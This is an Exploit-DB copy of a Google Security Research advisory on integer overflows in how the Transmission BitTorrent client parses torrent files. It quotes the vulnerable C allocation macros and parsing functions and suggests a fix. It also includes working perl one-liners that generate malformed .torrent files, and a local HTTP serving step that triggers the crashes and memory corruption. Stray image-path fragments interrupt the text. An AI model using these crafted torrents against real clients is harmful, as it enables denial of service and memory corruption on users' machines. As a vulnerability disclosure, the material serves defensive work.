transmission - Integer Overflows Parsing Torrent Files

EDB-ID: 44178
Author: Google Security Research
Published: 2018-02-27
Type: Dos
Platform: Multiple
Aliases: N/A
Advisory/Source: Link
Tags: N/A
Vulnerable App: N/A

#define tr_new(struct_type, n_structs) \
((struct_type *) tr_malloc (sizeof (struct_type) * ((size_t)(n_structs))))

#define tr_new0(struct_type, n_structs) \
((struct_type *) tr_malloc0 (sizeof (struct_type) * ((size_t)(n_structs))))

#define tr_renew(struct_type, mem, n_structs) \((struct_type *) tr_realloc ((mem), sizeof (struct_type) * ((size_t)(n_structs))))

Here is one example when parsing the files dictionary:

static const char*
parseFiles (tr_info * inf, tr_variant * files, const tr_variant * length)
int64_t len;
inf->isFolder = true;
inf->fileCount = tr_variantListSize (files);
inf->files = tr_new0 (tr_file, inf->fileCount); <--

Here fileCount is just the number of elements in a list, you can make a list containing empty dictionaries like this "ldededededede...e".

Here are a few more:

static const char*
getannounce (tr_info * inf, tr_variant * meta)
for (i=0; i<numTiers; i++)
n += tr_variantListSize (tr_variantListChild (tiers, i));

trackers = tr_new0 (tr_tracker_info, n); <--

static void
geturllist (tr_info * inf, tr_variant * meta)
const int n = tr_variantListSize (urls);

inf->webseedCount = 0;inf->webseeds = tr_new0 (char*, n); <--

static const char*
tr_metainfoParseImpl (const tr_session * session,
tr_info * inf,
bool * hasInfoDict,
size_t * infoDictLength,
const tr_variant * meta_in)
inf->pieceCount = len / SHA_DIGEST_LENGTH;
inf->pieces = tr_new0 (tr_piece, inf->pieceCount); <--

Because these are macros,I'm not sure how you would prefer to fix these. If you want to keep the macros, you could write them like this:

#define tr_new(struct_type, n_structs) \
((struct_type*)((SIZE_MAX / sizeof(struct_type)) > n_structs) ? NULL : tr_malloc(sizeof(struct_type) * (size_t)(n_structs)))

They're getting a little bit unwieldy though, and now evaluate n_structs more than once, so maybe inline static functions would be better.

Another bug, containerReserve() doesn't check for integer overflow or allocation failure:

static void
containerReserve (tr_variant * v, size_t count)
v->val.l.vals = tr_renew (tr_variant, v->val.l.vals, n); <---
v->val.l.alloc = n;

Another bug is that tr_sha1 uses signed integers for length, rather than size_t:tr_sha1 (uint8_t * hash,
const void * data1,
int data1_length,

This can cause memory corruption with very large torrents.

Here are some simple testcase for 32bit systems:

$ perl -e 'print "d4:infod4:name4:name12:piece lengthi1e5:filesl","d4:pathl4:filee6:lengthi1ee","de"x107374183,"e","6:pieces0:ee"' > overflow.torrent
$ perl -e 'print "d4:infod4:name4:root12:piece lengthi1e5:filesld4:pathl4:filee6:lengthi1eee6:pieces20:AAAAAAAAAAAAAAAAAAAAe13:announce-listl","l7:udp://0","0:"x134217728,"eee"' > overflow.torrentThis would make a torrent that's a 100MB or so, but would compress really well over gzip Content-Encoding.

Here is a testcase for a 64bit system, note that because of another bug in tr_loadFile you can't open very large torrents with transmission-cli (they get truncated), but you can just pass a http link to it instead:

$ perl -e 'print "d4:infod4:name4:root12:piecelengthi1e5:filesld4:pathl4:filee6:lengthi1eee","6:pieces2684354560:","A"x2684354560,"ee"' > test.torrent
$ python -m SimpleHTTPServer 8080 &
$ transmission-cli http://localhost:8080/test.torrent

The transfer can be compressed to make it a manageable size,it's about 2G otherwise.

Related Posts